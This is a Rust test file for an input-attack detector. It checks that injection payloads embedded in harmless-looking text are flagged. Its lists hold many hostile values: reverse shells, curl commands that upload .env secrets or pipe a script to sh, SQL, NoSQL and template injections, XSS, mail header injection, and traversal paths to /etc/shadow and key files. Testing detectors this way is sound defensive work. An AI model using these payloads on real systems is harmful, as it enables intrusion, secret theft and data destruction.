//! Attacks that look like a text about something else, of the kinds that are spared.

use super::*;

/// Values that got through when texts about code, markup from editors and mails were first spared.
#[test]
fn what_looks_like_talk_is_judged() {
    let detector = Detector::new();
    for value in [
        "x; nc 10.0.0.1 4444 -e sh",
        "x; curl 1.2.3.4 -T .env",
        "x; sleep 5.0",
        "x; find . -delete",
        "hello my dear '.system('id').'",
        "hello my dear ',subprocess.getoutput('id'),'",
        "hello my dear '-new java.io.File('.env').text-'",
        "not not not not os.popen('id').read()",
        "print print print print passthru('id');",
        "'one two three' and os.system('id')",
        "error: passthru('id');#): x",
        "error: readfile('.env');#): x",
        "import java.lang.ProcessBuilder as P\nnew P('sh','-c','id').start()",
        "m=process.mainModule\nm.require('f'+'s').unlinkSync('x')",
        "# at\nos.system(x)",
        "From: a@x.test\r\nBcc: b@x.test\r\nMessage-ID: <1>\r\nDate: x",
        "{% if config.SECRET_KEY < \"m\" %}1{% endif %}",
        "{% if user.password < \"m\" %}1{% endif %}",
        "{% for a in request.environ %}x{% endfor %}",
        "{% if 1 == 1 %}x{% endif %}",
        "<% sleep %>",
        "1 or id==id",
        "1) or id==id --",
        "};insert data { <http://x> <http://y> \"z\" } #",
        "1 and exists(select password from our.users)",
        "<?xml version=\"1.0\"?><a:stylesheet xmlns:a=\"x\"><a:include href=\"http://x.test/a\"/></a:stylesheet>",
        "<p>x</p>' or 1=1-- ",
        "<p>x</p>' or 'a'='a</p>",
        "<p>x' or 1=1</p>",
        "x' or 1 & nbsp; drop table users",
        "x' is null or ''='",
        "a '=' b",
        "a '<' 1",
        "how do I <script> alert(1)",
        "hello <script> location='//x.test'",
        "hello <script type=module> import'//x.test'",
        "hello `<script>`-alert`1`",
        "hello <script></script>",
        "<b>x</b> hello <script> there",
        "this & id</tmp/x",
        "this & cat /etc/passwd</p>",
        "this && curl x.test/a|sh</p>",
        "admin '<'.9",
        "x '<'.5",
        "x \"<\".5",
        "http://example.com/?a=$(id -u>proof&b=1)",
        "http://example.com/?a=x%2527&id=1%2523",
        "1;select null delete from users",
        "1 or exists(select a delete from users)",
        "%PDF-' union select password from users-- ",
        "subprocess. call('id')",
        "subprocess.__dict__['run']('id')",
        "hello `<script>`",
        "hello there <script> name",
        "' or id</p>-1 or '",
        "<p>x</p>' or id</p>-1 or '",
        "' is deleted limit 1-- ",
        "' is deleted into outfile 'x'",
        "x '>', a",
        "! a '<', b or id",
        "subprocess.os.execvp('sh',['sh'])",
        "{ \"$where\": \"this.a==1\" }",
        "{ \"$schema\": \"x\", \"$where\": \"sleep(1000)\" }",
        "\";location=\"javascript:alert(1)",
        "<svg onload='location=\"//x.test\"'>",
        "<img src=x onerror=location=\"javas\"+\"cript:alert(1)\">",
        "a`id`",
        ":x:`id`;`cat /etc/passwd`",
        "|id|",
        "|cat /etc/passwd| image:: x",
        "; type C:\\windows\\win.ini",
        "' or `id` like `id`-- ",
        "1 or 1%1=0",
        "1 or true*1=1",
        "1 or id*0=0",
        "9) or null|1=1",
        "1 or true%2==1",
        "1 or rowid%1==0",
        "1 or `uid` like `UID`",
        "1 or `id` is not `name`",
        ".. |nc 2130706433 99 -e sh| date:: y",
        ".. |reboot| date:: y",
        "x & type `a` d:\\site\\web.config",
        "a & type `b c d e web.config",
        "\";//><import \nlocation=\"//x.test\";x=\"",
        "1;a=eval\na(`top.alert(1)`)",
        "1;a=eval\na( `top.alert(1)`)",
        "1;a=setTimeout\na`top.alert(1)`",
        "(`reboot`, `x`)",
        "x|wget x.test/a| image:: y",
        "x|nc x.test 99 -e sh| date:: y",
        "\";location=\"1\"?name:0;//",
        "\";1<name\nlocation=\"//x.test\";\"",
        "p(`whoami`, `x`)",
        "1;type `web.config",
        ":a:`whoami`",
        "{ \"$type\": 2 }",
        "{ \"$set\": {\"role\": \"admin\"} }",
        "<?xml ><meta http-equiv=refresh content=\"0;url=//x.test\">?><b>x</b>",
        "list-all\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\nDate: x\r\nMessage-ID: y\r\n\r\n<b>x</b>",
        "' or 5%2=1-- ",
        "<?xml version=\"1.0\"?><a><x onclick=\"alert(1)\">x</x></a>",
        "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<?xml version=\"1.0\"?><form action=\"//x.test\"><input name=\"password\"/></form>",
        "<rss><img src=x onerror=alert(1)></rss>",
        "<feed xmlns=\"x\"><object data=\"//x.test\"></object></feed>",
        "setTimeout(`a.alert(1)`)",
        "${alert(1)}",
        "Content-Type: text/html\r\nBcc: a@x.test\r\nDate: x\r\nMessage-ID: <1>\r\n\r\nx",
    ] {
        for carrier in [Carrier::FormValue, Carrier::JsonValue] {
            let total = judge_with(&detector, carrier, value.as_bytes()).total();
            assert!(total >= Paranoia::One.threshold(), "{value} in {carrier:?}");
        }
    }
}

/// Links between the pages of a document are spared, but no path that climbs further.
#[test]
fn a_long_text_hides_no_way_out() {
    let detector = Detector::new();
    let text = "A line of a text about something else.\n".repeat(20);
    for path in [
        "../../../../config/database.yml",
        "../../../../../../etc/shadow",
        "../../etc/passwd",
        "..\\..\\..\\..\\windows\\win.ini",
        "x/../../../../../a.key",
        "x/../../../../a b.yml",
    ] {
        for value in [format!("{text}{path}"), format!("{path}\n{text}")] {
            let total = judge_with(&detector, Carrier::FormValue, value.as_bytes()).total();
            assert!(total >= Paranoia::One.threshold(), "{path}");
        }
    }
    // Blanks and line breaks make no long text, and blanks inside names no other paths.
    let blanks = " ".repeat(300);
    for value in [
        "../../a b/../../a b/../../a b/../../config/x.yml".to_owned(),
        format!("../../../../a b/config/x.yml\n{blanks}"),
        format!("../../../config/x.yml\n{text}"),
        format!("x/../../a b c/d/../../a b/c/../../config/x.yml\n{blanks}"),
        format!(
            "{}\n/../../a b/../../a b/../../a b/../../config/x.yml",
            "a".repeat(250)
        ),
    ] {
        let total = judge_with(&detector, Carrier::FormValue, value.as_bytes()).total();
        assert!(total >= Paranoia::One.threshold(), "{value}");
    }
}
